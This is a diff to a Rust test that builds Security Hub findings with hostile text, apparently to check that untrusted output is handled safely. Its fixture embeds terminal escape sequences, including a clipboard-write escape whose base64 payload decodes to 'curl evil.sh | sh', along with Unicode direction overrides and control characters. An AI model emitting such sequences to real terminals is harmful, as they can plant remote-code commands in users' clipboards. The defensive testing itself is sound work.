@@ -27,23 +27,8 @@ const EVIL: &str = "\u{1b}[2J\u{1b}]52;c;ZWNobyBwd25lZA==\u{7}\u{202e}\u{0}\u{9b
 const RESOURCES: usize = 5000;
 
 fn finding(id: &str, title: String, resources: Vec<Value>) -> Value {
-    json!({
-        "SchemaVersion": "2018-10-08",
-        "Id": id,
-        "ProductArn": "arn:aws:securityhub:eu-west-1::product/aws/securityhub",
-        "GeneratorId": "security-control/EC2.13",
-        "AwsAccountId": "111111111111",
-        "Region": "eu-west-1",
-        "CreatedAt": "2026-11-01T10:00:00Z",
-        "UpdatedAt": "2026-11-20T10:00:00Z",
-        "Severity": {"Label": "HIGH"},
-        "Title": title,
-        "Description": format!("\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}copy this\n{EVIL} second line \u{85}\u{2066}"),
-        "Compliance": {"Status": "FAILED", "SecurityControlId": "EC2.13"},
-        "Workflow": {"Status": "NEW"},
-        "RecordState": "ACTIVE",
-        "Resources": resources
-    })
+    let description = format!("\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}copy this\n{EVIL} second line \u{85}\u{2066}");
+    crate::hostile_asff::finding(id, title, description, resources)
 }
 
 /// The two hostile findings, assessed with the example config (EC2.13 has a playbook, so each has a plan).
